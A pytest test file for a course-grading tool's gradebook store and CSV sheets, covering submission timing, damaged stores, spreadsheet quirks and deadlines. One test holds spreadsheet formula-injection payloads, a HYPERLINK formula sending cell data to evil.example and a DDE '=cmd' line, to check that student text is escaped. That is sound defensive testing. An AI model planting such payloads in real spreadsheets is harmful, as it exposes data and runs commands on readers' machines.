"""The gradebook store and its CSV files, without grading anything: no kernel, each test a few ms.

What a semester must never lose or silently change: the latest submission by time whatever its
offset, a grade whose file is on a drive not mounted, a hand score typed in a spreadsheet that
writes ';' or dropped an id's leading zeros, the store itself when its file is damaged.
"""

import csv
import sqlite3

import pytest

from course_tools.grading.records import Grade, Student, TaskResult, WrittenAnswer
from course_tools.grading.sheets import ScoreError, read_scores, write_gradebook, write_written_answers
from course_tools.grading.store import COURSE_TOOLS, Gradebook, GradebookError, Placement, Score, result_modules

QUESTION = "Which layer holds most of the parameters?"


def graded(answer: str = "fc1") -> Grade:
    grade = Grade("shapes", status="ok", tasks=[TaskResult(1, True, 1.0, 1.0)])
    grade.written = [WrittenAnswer(2, QUESTION, answer, placeholder=False, max_points=2.0)]
    return grade


def place(gradebook: Gradebook, path, key: str, student: str = "", when: str = "2026-10-01T12:00:00+00:00"):
    gradebook.record(key, graded(key), [Placement(str(path), key, "shapes", student_id=student, submitted_at=when)])


@pytest.fixture
def gradebook(tmp_path):
    with Gradebook(tmp_path / "gradebook.sqlite") as opened:
        opened.set_roster([Student("00123", "Ann"), Student("s2", "Bob")])
        yield opened


def test_the_latest_submission_is_latest_in_time_not_in_text(gradebook, tmp_path):
    place(gradebook, tmp_path / "a.ipynb", "early", "00123", "2026-10-01T12:00:00+02:00")  # 10:00 UTC
    place(gradebook, tmp_path / "b.ipynb", "later", "00123", "2026-10-01T11:00:00+00:00")
    (mine,) = [grade for grade in gradebook.grades() if grade.student_id == "00123"]
    assert mine.submission == str(tmp_path / "b.ipynb")


def test_a_file_not_on_disk_keeps_its_grade_unless_its_folder_was_graded(gradebook, tmp_path):
    for student in ("00123", "s2"):
        (tmp_path / student).mkdir()
        place(gradebook, tmp_path / student / "x.ipynb", student, student)  # neither file exists
    assert gradebook.forget_absent([tmp_path / "s2"]) == [str(tmp_path / "s2" / "x.ipynb")]
    statuses = {grade.student_id: grade.status for grade in gradebook.grades()}
    assert statuses == {"00123": "ok", "s2": "missing"}  # Ann's drive may just not be mounted
    assert gradebook.absent() == [str(tmp_path / "00123" / "x.ipynb")]


def test_a_damaged_store_is_refused_and_its_backup_opens(tmp_path):
    path = tmp_path / "gradebook.sqlite"
    with Gradebook(path) as gradebook:
        place(gradebook, tmp_path / "a.ipynb", "k1", "00123")
        backup = gradebook.backup()
    with open(path, "r+b") as damaged:  # page 2 (the first table's), left unnoticed without a check
        damaged.seek(4096)
        damaged.write(b"\xff" * 4096)
    with pytest.raises(GradebookError, match="is damaged .* restore it from .*gradebook.sqlite.bak"):
        Gradebook(path)
    with Gradebook(backup) as restored:
        assert [grade.submission for grade in restored.grades()] == [str(tmp_path / "a.ipynb")]


def test_a_schema_1_store_gains_the_file_hash(tmp_path):
    path = tmp_path / "gradebook.sqlite"
    Gradebook(path).close()
    with sqlite3.connect(path) as db:
        db.execute("ALTER TABLE submissions DROP COLUMN sha256")
        db.execute("PRAGMA user_version = 1")
    with Gradebook(path) as gradebook:
        gradebook.record("k", graded(), [Placement("a.ipynb", "k", "shapes", sha256="abc", submitted_at="t")])
        assert gradebook.placed() == {"a.ipynb": ("abc", "t")}


def test_scores_follow_a_file_that_finds_its_student(gradebook, tmp_path):
    path = str(tmp_path / "a.ipynb")
    place(gradebook, path, "k1")  # no roster line matched it yet
    gradebook.save_scores([Score(path, "shapes", "2", QUESTION, 1.5, "good", "k1")])
    place(gradebook, path, "k1", "s2")  # the roster now names it
    (bobs,) = [grade for grade in gradebook.grades() if grade.student_id == "s2"]
    assert bobs.written[0].score == 1.5 and gradebook.unapplied_scores(gradebook.grades()) == []
    gradebook.save_scores([Score("s9", "shapes", "2", QUESTION, 1.0)])  # nobody's answer
    assert [score.owner for score in gradebook.unapplied_scores(gradebook.grades())] == ["s9"]


def test_result_modules_are_those_grading_runs():
    names = {path.relative_to(COURSE_TOOLS).as_posix() for path in result_modules()}
    assert {"notebook_transforms.py", "runner.py", "cluster.py", "grading/submission.py"} <= names
    assert not names & {"grading/command.py", "grading/__init__.py", "grading/store.py", "cli.py"}


def sheet(tmp_path, gradebook: Gradebook) -> tuple:
    out = tmp_path / "written_answers.csv"
    write_written_answers(gradebook.grades(), out, gradebook.students())
    return out, list(csv.DictReader(out.open(encoding="utf-8", newline="")))


def test_a_semicolon_sheet_with_comma_decimals_is_read(gradebook, tmp_path):
    place(gradebook, tmp_path / "a.ipynb", "k1", "00123")
    out, rows = sheet(tmp_path, gradebook)
    rows[0] |= {"score": "1,5", "comment": "ok"}
    with out.open("w", encoding="utf-8", newline="") as f:  # as Excel saves it in a comma-decimal locale
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)
    (score,) = read_scores(out, gradebook.grades(), gradebook.scores())
    assert (score.owner, score.score, score.comment) == ("00123", 1.5, "ok")


def test_a_sheet_without_its_columns_is_refused(gradebook, tmp_path):
    place(gradebook, tmp_path / "a.ipynb", "k1", "00123")
    out = tmp_path / "written_answers.csv"
    out.write_text("student_id,exercise,score\n00123,shapes,1\n", encoding="utf-8")  # not ours to rewrite
    with pytest.raises(ScoreError, match=r"lacks the columns submission, task, question, answer, comment, so"):
        read_scores(out, gradebook.grades(), gradebook.scores())


def test_a_score_on_a_row_that_names_no_answer_is_refused(gradebook, tmp_path):
    place(gradebook, tmp_path / "a.ipynb", "k1", "00123")
    out, rows = sheet(tmp_path, gradebook)
    rows[0] |= {"student_id": "123", "score": "2"}  # a spreadsheet dropped the leading zeros
    write = lambda: out.write_text(  # noqa: E731
        ",".join(rows[0]) + "\n" + ",".join(f'"{value}"' for value in rows[0].values()) + "\n", encoding="utf-8"
    )
    write()
    (score,) = read_scores(out, gradebook.grades(), gradebook.scores())  # found by its submission
    assert (score.owner, score.score) == ("00123", 2.0)
    rows[0] |= {"submission": "elsewhere.ipynb"}
    write()
    with pytest.raises(ScoreError, match=r"row 2 \(123, shapes, task 2\): no answer in the gradebook"):
        read_scores(out, gradebook.grades(), gradebook.scores())


def test_student_text_never_becomes_a_formula(gradebook, tmp_path):
    answer = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    grade = graded(answer)
    grade.feedback = ["=cmd|' /C calc'!A0"]  # an error message the student's code chose
    gradebook.record("k1", grade, [Placement(str(tmp_path / "a.ipynb"), "k1", "shapes", student_id="s2")])
    gradebook.save_scores([Score("s2", "shapes", "2", QUESTION, 1.0, "-- see me", answer)])
    out, rows = sheet(tmp_path, gradebook)
    assert (rows[0]["answer"], rows[0]["comment"]) == ("'" + answer, "'-- see me")
    (score,) = read_scores(out, gradebook.grades(), gradebook.scores())
    assert (score.answer, score.comment) == (answer, "-- see me")  # the same answer: no "changed" note
    book = tmp_path / "gradebook.csv"
    write_gradebook(gradebook.grades(), book, gradebook.students())
    rows = {row["student_id"]: row for row in csv.DictReader(book.open(encoding="utf-8", newline=""))}
    assert (rows["s2"]["feedback"], rows["s2"]["total"]) == ("'=cmd|' /C calc'!A0", "2")


# --- course grade over the store, with a fake cluster: no kernel starts -------------------------

REPO = COURSE_TOOLS.parent
SHAPES, CONFUSION = "03_shape_arithmetic_exercises.ipynb", "06_confusion_matrices_exercises.ipynb"


@pytest.fixture
def fake_cluster(monkeypatch):
    """`course grade` with each task's row from ``fake["row"](task)`` (None: the worker died) and
    ``fake["before"]()`` called before each result comes back."""
    from course_tools import cluster
    from course_tools.grading import Row

    fake = {
        "row": lambda task: Row(submission="", exercise=next(iter(task.solution)), status="ok", tasks={1: True}),
        "before": lambda: None,
    }

    class Client:
        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return False

    def run_all(client, function, jobs):
        for key, (task,) in jobs.items():
            fake["before"]()
            row = fake["row"](task)
            result = None if row is None else {"row": row, "executed": None, "log": None, "checks": {}}
            yield key, result, None if row else "the workers running it kept dying"

    monkeypatch.setattr(cluster, "dask_client", lambda *args: Client())
    monkeypatch.setattr(cluster, "check_workers", lambda *args, **kwargs: {})
    monkeypatch.setattr(cluster, "threads_per_worker", lambda *args: {})
    monkeypatch.setattr(cluster, "run_all", run_all)
    return fake


def course_grade(tmp_path, *paths, extra=()) -> int:
    from course_tools import cli

    out, work = str(tmp_path / "gradebook.csv"), str(tmp_path / "work")
    return cli.main(["grade", *map(str, paths), "--out", out, "--work", work, "--no-sandbox", *extra])


def submit(folder, name: str, when: str, text: bytes | None = None):
    import os
    from datetime import datetime

    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(text or (REPO / "exercises" / name).read_bytes())
    moment = datetime.fromisoformat(when).timestamp()
    os.utime(folder / name, (moment, moment))
    return folder / name


def rows(tmp_path) -> dict:
    with (tmp_path / "gradebook.csv").open(encoding="utf-8", newline="") as f:
        return {(row["exercise"], row["submission"]): row for row in csv.DictReader(f)}


def test_deadline_is_this_runs_exercises_and_never_moves_an_earlier_ones(tmp_path, fake_cluster, capsys):
    week1 = submit(tmp_path / "subs" / "week1", SHAPES, "2026-10-02T12:00:00+00:00")
    assert course_grade(tmp_path, tmp_path / "subs", extra=["--deadline", "2026-10-01T00:00:00+00:00"]) == 0
    assert "late policy: shape_arithmetic due 2026-10-01T00:00:00+00:00" in capsys.readouterr().out
    week2 = submit(tmp_path / "subs" / "week2", CONFUSION, "2026-10-08T12:00:00+00:00")
    assert course_grade(tmp_path, tmp_path / "subs", extra=["--deadline", "2026-10-09T00:00:00+00:00"]) == 0
    assert "does not change the deadline shape_arithmetic already had" in capsys.readouterr().out
    late = {exercise: row["late_days"] for (exercise, _), row in rows(tmp_path).items()}
    assert late == {"shape_arithmetic": "1.5", "confusion_matrices": "0"}
    assert {path for _, path in rows(tmp_path)} == {str(week1), str(week2)}


def test_a_file_rewritten_in_place_gets_its_new_time(tmp_path, fake_cluster):
    deadline = ["--deadline", "2026-10-01T00:00:00+00:00"]
    path = submit(tmp_path / "subs", SHAPES, "2026-09-30T12:00:00+00:00")
    assert course_grade(tmp_path, tmp_path / "subs", extra=deadline) == 0
    submit(tmp_path / "subs", SHAPES, "2026-10-03T00:00:00+00:00", text=path.read_bytes())  # copied again
    assert course_grade(tmp_path, tmp_path / "subs") == 0
    assert rows(tmp_path)["shape_arithmetic", str(path)]["late_days"] == "0"  # the same bytes: the time first seen
    submit(tmp_path / "subs", SHAPES, "2026-10-03T00:00:00+00:00", text=path.read_bytes() + b" ")  # resubmitted
    assert course_grade(tmp_path, tmp_path / "subs") == 0
    assert rows(tmp_path)["shape_arithmetic", str(path)]["late_days"] == "2"


def test_a_grader_failure_is_no_result_and_never_replaces_one(tmp_path, fake_cluster, capsys):
    path = submit(tmp_path / "subs", SHAPES, "2026-09-30T12:00:00+00:00")
    good = fake_cluster["row"]
    fake_cluster["row"] = lambda task: None  # the worker died
    assert course_grade(tmp_path, tmp_path / "subs") == 0
    assert "(no result: graded again next run)" in capsys.readouterr().out
    fake_cluster["row"] = good
    assert course_grade(tmp_path, tmp_path / "subs") == 0
    assert "0 of 1 submissions unchanged" in capsys.readouterr().out  # graded again
    assert rows(tmp_path)["shape_arithmetic", str(path)]["status"] == "ok"
    fake_cluster["row"] = lambda task: None
    assert course_grade(tmp_path, tmp_path / "subs", extra=["--regrade"]) == 0
    assert "the earlier one kept" in capsys.readouterr().out
    assert rows(tmp_path)["shape_arithmetic", str(path)]["status"] == "ok"


def test_scores_typed_while_grading_are_kept(tmp_path, fake_cluster):
    from course_tools.grading import Row

    def with_answer(task):
        answer = WrittenAnswer(3, QUESTION, "fc1", placeholder=False, max_points=1.0)
        return Row(submission="", exercise=SHAPES, status="ok", tasks={1: True}, written=[answer])

    fake_cluster["row"] = with_answer
    submit(tmp_path / "subs", SHAPES, "2026-09-30T12:00:00+00:00")
    assert course_grade(tmp_path, tmp_path / "subs") == 0
    sheet = tmp_path / "written_answers.csv"
    typed = sheet.read_text(encoding="utf-8").replace(",no,,1,", ",no,0.5,1,")
    assert typed != sheet.read_text(encoding="utf-8")
    fake_cluster["before"] = lambda: sheet.write_text(typed, encoding="utf-8")  # the instructor, mid-run
    assert course_grade(tmp_path, tmp_path / "subs", extra=["--regrade"]) == 0
    ((_, row),) = rows(tmp_path).items()
    assert row["written"] == "0.5" and ",0.5," in sheet.read_text(encoding="utf-8")


def test_a_file_no_roster_line_matches_keeps_its_manifest_time(tmp_path, fake_cluster):
    path = submit(tmp_path / "subs" / "stranger", SHAPES, "2026-10-05T00:00:00+00:00")
    (tmp_path / "subs" / "manifest.csv").write_text(f"file,submitted_at\nstranger/{SHAPES},2026-09-30T12:00:00+00:00\n")
    (tmp_path / "roster.csv").write_text("student_id,name,email,section\ns1,Ann,,\n")
    assert course_grade(tmp_path, tmp_path / "subs", extra=["--roster", str(tmp_path / "roster.csv")]) == 0
    assert rows(tmp_path)["shape_arithmetic", str(path)]["submitted_at"] == "2026-09-30T12:00:00+00:00"


def test_a_file_that_never_ran_is_out_of_the_exercises_points(gradebook, tmp_path):
    place(gradebook, tmp_path / "a.ipynb", "good", "00123")
    empty = Grade("shapes", status="error", feedback=["the file is empty"])
    gradebook.record("empty", empty, [Placement(str(tmp_path / "b.ipynb"), "empty", "shapes", student_id="s2")])
    bob = next(grade for grade in gradebook.grades() if grade.student_id == "s2")
    assert (bob.points, bob.max_points) == (0.0, 3.0)  # one task of 1 and a written answer of 2, as Ann's
    assert bob.tasks[0].hint == "the file is empty"
